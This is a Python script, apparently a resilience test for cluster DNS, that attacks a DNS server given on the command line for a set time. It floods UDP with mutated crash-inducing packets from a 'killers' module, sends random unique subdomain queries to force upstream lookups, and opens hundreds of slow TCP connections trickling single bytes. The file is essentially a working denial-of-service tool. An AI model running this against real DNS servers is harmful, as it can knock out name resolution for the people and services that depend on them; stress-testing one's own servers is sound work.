"""Attack a DNS server as a Pod could: attack.py SERVER SECONDS. Says at the end what it sent.

All at once and as fast as one process can: packets that have crashed or stalled DNS servers and
mutations of them, queries for names outside the cluster that nobody has asked before, and TCP
connections that say nothing or an octet now and then.
"""

from __future__ import annotations

import contextlib
import random
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "support"))
import killers

SLOW = 400  # connections; a server bounds them
LARGEST = 60000  # octets of a UDP packet
UNIQUE_S = 2000  # names a second: each is a query to the server outside, unless that is bounded
BATCH = 50


def unique(rng: random.Random) -> bytes:
    """Return a query for a name that has not been asked for."""
    label = b"%016x" % rng.getrandbits(64)
    question = b"\x10" + label + b"\x07example\x03com\0" + struct.pack("!2H", 1, 1)
    return struct.pack("!6H", rng.getrandbits(16), 0x0100, 1, 0, 0, 0) + question


def slow_connection(server: str) -> socket.socket | None:
    """Return a connection that is being opened, or nothing if there can be no more."""
    sock = socket.socket()
    sock.setblocking(False)
    try:
        sock.connect_ex((server, 53))
    except OSError:
        sock.close()
        return None
    return sock


def attack(server: str, seconds: float) -> dict[str, int]:
    """Send for ``seconds``; return how much of what."""
    rng = random.Random(18)
    seeds = [packet[:LARGEST] for packet in (*killers.queries().values(), *killers.seeds())]
    counts = {"killers": 0, "names": 0, "octets over TCP": 0, "connections": 0}
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setblocking(False)
    udp.connect((server, 53))
    slow: list[socket.socket] = []
    end = time.monotonic() + seconds
    while (now := time.monotonic()) < end:
        for _ in range(BATCH):
            packet = killers.mutate(rng, rng.choice(seeds))[:LARGEST]
            with contextlib.suppress(OSError):
                udp.send(packet)
                counts["killers"] += 1
        for _ in range(BATCH):
            if counts["names"] < (seconds - (end - now)) * UNIQUE_S:
                with contextlib.suppress(OSError):
                    udp.send(unique(rng))
                    counts["names"] += 1
        if len(slow) < SLOW and (made := slow_connection(server)):
            slow.append(made)
            counts["connections"] += 1
        if slow:
            chosen = rng.choice(slow)
            try:
                counts["octets over TCP"] += chosen.send(b"\0")
            except BlockingIOError:
                pass
            except OSError:  # the server has closed it
                slow.remove(chosen)
                chosen.close()
        with contextlib.suppress(OSError):
            while udp.recv(65535):
                pass
    return counts


if __name__ == "__main__":
    print(attack(sys.argv[1], float(sys.argv[2])))
